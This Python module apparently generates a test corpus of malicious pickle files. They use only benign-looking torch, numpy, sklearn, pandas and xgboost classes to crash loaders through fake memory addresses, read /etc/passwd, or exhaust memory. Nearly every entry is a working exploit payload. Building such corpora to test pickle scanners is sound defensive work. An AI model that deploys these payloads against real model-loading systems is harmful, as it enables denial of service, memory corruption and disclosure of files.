"""Pickles of harmless names only, whose classes are made with what does harm.

Most end the process that loads them: an address out of the file is taken for an object, an
allocator, or values. The others call a method by its name, or read a file.
"""

import pickle
import struct
from collections.abc import Callable

from corpus.canary import Canary
from corpus.opcodes import called, plain, stream
from corpus.tricks import fitted_stack
from corpus.writing import Builder, fixed, written

ADDRESS = b"J\x41\x41\x41\x41"


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def interface(kind: str) -> bytes:
    return plain({"shape": (1,), "typestr": kind, "data": (0x41414141, False), "version": 3})


def matrix(value: bytes) -> bytes:
    """numpy.matrix of an object that says where its values are."""
    return stream(b"cnumpy\nmatrix\n(" + value + b"t\x81", protocol=3)


def keyed(key: bytes) -> bytes:
    return b"cargparse\nNamespace\n)\x81}" + key + interface("|O8") + b"sb"


IDENTITY = b"ctorch.nn.modules.linear\nIdentity\n"
BUNCH = b"csklearn.utils._bunch\nBunch\n)\x81"
MADE_KEY = b"cbuiltins\nstr\nC\x13__array_interface__" + text("ascii") + b"\x86R"
MODULE = (
    IDENTITY + b")\x81}" + text("_parameters") + b"}s" + text("_modules") + b"}s"
    + text("_buffers") + b"}" + text("__array_interface__") + interface("|O8") + b"ssb"
)  # fmt: skip
PARAMETER = (
    b"ctorch._utils\n_rebuild_parameter_with_state\n(" + IDENTITY + b")\x81}("
    + b"".join(text(name) + b"}" for name in ("_parameters", "_buffers", "_modules"))
    + text("detach") + IDENTITY + b"ub\x88}}(" + text("__class__") + b"cxgboost.core\nBooster\n"
    + text("handle") + ADDRESS + b"utR"
)  # fmt: skip
"""A module that passes for a tensor, then for a booster, which frees the address in its handle."""
LYING_STATE = plain((3, "<", None, None, None, -1, -1, 63)) + b"b"


def array(dtype: bytes) -> bytes:
    made = b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\n(K\x00tC\x01btR"
    state = plain(1) + plain((1,)) + dtype + LYING_STATE + plain(False) + plain(b"A" * 8, 3)
    return stream(made + b"(" + state + b"tb", protocol=3)


def stacked(protocol: int) -> bytes:
    model = fitted_stack()
    model.stack_method_ = ["to_json"]
    return pickle.dumps(model, protocol)


def texts(_: Canary) -> bytes:
    """The characters of a file become the features of whoever knows its name."""
    from sklearn.feature_extraction.text import CountVectorizer

    return pickle.dumps(CountVectorizer(analyzer="char", input="filename").fit([__file__]))


def threshold(_: Canary) -> bytes:
    from sklearn.dummy import DummyClassifier
    from sklearn.model_selection import FixedThresholdClassifier

    model = FixedThresholdClassifier(DummyClassifier(), response_method="to_csv")
    return pickle.dumps(model)


def function(_: Canary) -> bytes:
    from sklearn.preprocessing import FunctionTransformer
    from xgboost import Booster

    return pickle.dumps(FunctionTransformer(Booster, kw_args={"model_file": "/etc/passwd"}))


CRASHES: dict[str, bytes] = {
    "tensor-address": stream(b"ctorch\nTensor\n)}" + text("cdata") + ADDRESS + b"s\x92"),
    "allocator-address": stream(
        b"ctorch.storage\nUntypedStorage\nK\x08\x85}" + text("allocator") + ADDRESS + b"s\x92"
    ),
    "allocator-by-function": stream(
        b"ccopyreg\n__newobj_ex__\n(ctorch.storage\nUntypedStorage\nK\x08\x85}"
        + text("allocator") + ADDRESS + b"stR"
    ),
    "allocator-by-index": stream(
        b"cpandas.core.indexes.base\n_new_Index\nctorch.storage\nUntypedStorage\n}"
        + text("allocator") + ADDRESS + b"s\x86R"
    ),
    "bunch-address": matrix(BUNCH + text("__array_interface__") + interface("|O8") + b"s"),
    "bunch-numbers": matrix(BUNCH + text("__array_interface__") + interface("<f8") + b"s"),
    "namespace-made-key": matrix(keyed(MADE_KEY)),
    "module-buffer": matrix(MODULE),
    "parameter-class": stream(PARAMETER),
}  # fmt: skip
"""Loading them ends in a violation of memory: SIGSEGV, or SIGBUS."""
OTHERS: dict[str, Callable[[Canary], bytes]] = {
    "dtype-by-function": lambda _: array(
        b"ccopyreg\n__newobj__\n(cnumpy\ndtype\n" + text("f8") + b"tR"
    ),
    "dtype-by-index": lambda _: array(
        b"cpandas.core.indexes.base\n_new_Index\ncnumpy\ndtype\n}" + text("dtype") + text("f8")
        + b"s\x86R"
    ),
    "made-key-as-method": lambda _: stream(
        b"cargparse\nNamespace\n)\x81}cbuiltins\nstr\nC\x06append" + text("ascii")
        + b"\x86Rcxgboost.core\nBooster\nsb}a", protocol=3
    ),
    "bunch-as-state": lambda _: stream(
        b"cargparse\nNamespace\n)\x81" + BUNCH + text("append") + b"cxgboost.core\nBooster\nsb}a"
    ),
    "bunch-method": lambda _: stream(BUNCH + text("append") + b"cxgboost.core\nBooster\ns}a"),
    "stacked-protocol-0": lambda _: stacked(0),
    "stacked-protocol-1": lambda _: stacked(1),
    "stacked-by-tree": lambda _: stream(
        b"csklearn.metrics._dist_metrics\nnewObj\ncsklearn.ensemble._stacking\nStackingRegressor\n"
        + b"\x85R" + plain({"stack_method_": ["to_json"]}) + b"b"
    ),
    "texts-as-files": texts,
    "threshold-method": threshold,
    "function-with-file": function,
    "index-with-zone": lambda _: stream(
        b"cpandas.core.indexes.datetimes\n_new_DatetimeIndex\n"
        b"cpandas.core.indexes.datetimes\nDatetimeIndex\n"
        + plain({"data": [0], "tz": "dateutil//etc/passwd"}) + b"\x86R"
    ),
    "generator-state": lambda _: stream(
        called("numpy.random._pickle", "__randomstate_ctor", "MT19937")
        + plain(
            {"bit_generator": "MT19937", "state": {"key": list(range(624)), "pos": 2**30},
             "has_gauss": 0, "gauss": 0.0}
        ) + b"b"
    ),
    "scalar-of-gigabytes": lambda _: stream(
        b"cnumpy.core.multiarray\nscalar\n" + called("numpy", "dtype", "V2147483647", False, True)
        + b"\x85R"
    ),
    "range-in-deque": lambda _: stream(
        b"ccollections\ndeque\n" + called("builtins", "range", 10**12) + b"\x85R"
    ),
    "bytes-in-list": lambda _: stream(
        b"cbuiltins\nlist\n" + called("builtins", "bytes", 2**29) + b"\x85R"
    ),
}  # fmt: skip


FILES: dict[str, Builder] = {
    **{f"making-{name}": written("m.pkl", fixed(content)) for name, content in CRASHES.items()},
    **{f"making-{name}": written("m.pkl", make) for name, make in OTHERS.items()},
}
